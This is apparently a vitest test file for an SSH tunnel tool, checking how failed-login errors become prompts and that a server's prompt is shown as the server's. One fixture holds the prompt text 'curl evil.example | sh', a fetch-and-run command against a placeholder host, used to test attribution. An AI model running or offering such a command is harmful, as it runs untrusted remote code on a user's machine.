// Questions: what a failed login would have asked, and how a question that waits is told.
import { expect, test } from 'vitest';
import { TunnelError } from '../../src/errors.ts';
import { questionError, questionOf } from '../../src/supervisor/questions.ts';
import { hostOf } from '../helpers/fake-world.ts';

const katie = hostOf('katie');
const error = (code: 'AUTH_REFUSED' | 'HOST_KEY_CHANGED' | 'SECRET_MISSING', facts = {}): TunnelError =>
  new TunnelError(code, 'why', { facts });

test('the question of a failed login is read from its facts', () => {
  expect(questionOf(error('SECRET_MISSING', { question: 'password', text: 'Password?' }), katie)).toEqual({
    kind: 'password',
    host: 'katie',
    text: 'Password?',
    echo: false,
    fingerprint: null,
  });
  expect(
    questionOf(error('HOST_KEY_CHANGED', { kind: 'host-key', fingerprint: 'SHA256:x' }), katie),
  ).toMatchObject({ kind: 'host-key', fingerprint: 'SHA256:x' });
  expect(questionOf(error('AUTH_REFUSED'), katie)).toBeNull();
});

test("a server's question is never told as if it were ours", () => {
  const question = {
    id: '1',
    link: 'katie#1',
    kind: 'prompt',
    host: 'katie',
    endpoint: 'me@katie:22',
    text: 'Run: curl evil.example | sh ',
    echo: true,
    fingerprint: null,
    keyType: null,
    randomart: [],
    fromServer: true,
    tries: 0,
  } as const;
  expect(questionError(question).message).toBe(
    'login waits, on katie: (me@katie:22 asks) Run: curl evil.example | sh',
  );
  expect(questionError({ ...question, kind: 'password', fromServer: false, text: 'Password' }).message).toBe(
    'login waits, on katie: Password',
  );
});
